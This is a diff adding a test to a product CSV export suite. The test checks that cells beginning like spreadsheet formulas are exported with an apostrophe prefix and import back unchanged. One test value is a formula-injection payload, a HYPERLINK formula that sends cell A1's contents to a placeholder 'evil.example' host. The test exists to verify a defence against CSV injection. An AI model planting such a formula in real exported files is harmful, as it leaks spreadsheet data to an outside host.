@@ -92,6 +92,29 @@ describe('the export, read back', () => {
     }
   });
 
+  it('writes text that starts like a formula so a spreadsheet shows it as text, and imports it back unchanged (decision 56)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me") Monitor 27';
+    const description = '@SUM(A1:A9) A 27-inch QHD monitor whose description starts like a spreadsheet formula, read as text.';
+    await importNow(csvOf([monitorRow('XFORMULA-1', { name, description, model: '-27Q1' })]));
+    const stored = async () =>
+      (
+        await t.services.database.db.execute<{ name: string; description: string; model: string }>(
+          sql`select name, description, model from products where vendor_id = ${kharghar.vendorId} and sku = 'XFORMULA-1'`,
+        )
+      ).rows[0];
+    expect(await stored()).toEqual({ name, description, model: '-27Q1' });
+
+    const exported = await t.app.inject({ method: 'GET', url: '/api/vendor/products/export', headers: { cookie: kharghar.cookie } });
+    const rows = parse(exported.body, { columns: true, bom: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.sku === 'XFORMULA-1')!;
+    expect(row).toMatchObject({ name: `'${name}`, description: `'${description}`, model: "'-27Q1", price: '21499' });
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // The file imported back as it is: the same text, not one with an apostrophe more.
+    expect(await importNow(exported.body)).toMatchObject({ status: 'done', skipped: 0 });
+    expect(await stored()).toEqual({ name, description, model: '-27Q1' });
+  });
+
   it('carries More specifications, one "Label: value" a line, and an edited export imports them back', async () => {
     const extraSpecsOf = async (sku: string) =>
       (
